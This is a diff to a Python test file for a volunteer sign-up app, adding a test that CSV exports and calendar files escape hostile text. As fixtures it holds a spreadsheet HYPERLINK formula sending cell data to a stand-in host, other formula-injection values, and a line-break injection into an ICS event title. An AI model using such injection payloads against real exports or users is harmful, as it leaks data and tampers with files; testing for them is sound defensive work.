@@ -1,6 +1,8 @@
 """Volunteer sign-up: profiles, seats and waitlists, offers that run out, age rules, overlaps,
 check-in, the hour arithmetic, the ledger, certificates and proxies."""
 
+import csv
+import io
 import re
 from datetime import date, datetime, timedelta
 
@@ -851,3 +853,26 @@ def test_the_public_list_pages_by_each_activitys_next_shift_and_past_ones_latest
     assert shown == [str(s.activity_id) for s in over]
     assert all("past=1" in url for url in later)
     refuses_forged_keys(client, "/volunteers/")
+
+
+def test_the_csv_and_the_calendar_hold_hostile_text_as_text(client, demo, login_as, ctx):
+    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点这里")'
+    profile = make_profile(RESIDENT, name="@SUM(1+1)")
+    shift = make_shift(title="助老\rBEGIN:VALARM;X=1,2\r\nEND:VEVENT")
+    record = record_for(profile)
+    record.shift_id, record.content, record.state = shift.id, hostile, "approved"
+    record.place = "\t-1+2"
+    db.session.commit()
+    login_as(WORKER)
+    text = client.get(f"/volunteers/shifts/{shift.id}/hours.csv").get_data(as_text=True)
+    assert text.startswith("\ufeff")
+    row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
+    assert row[1] == "'@SUM(1+1)"
+    assert row[5] == "'\t-1+2"
+    assert row[6] == "'" + hostile
+    raw = client.get(f"/volunteers/shifts/{shift.id}/calendar.ics").get_data()
+    assert b"\r" not in raw.replace(b"\r\n", b"")
+    lines = raw.decode().replace("\r\n ", "").split("\r\n")
+    assert lines.count("END:VEVENT") == 1
+    assert "SUMMARY:助老\\nBEGIN:VALARM\\;X=1\\,2\\nEND:VEVENT" in lines
+    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
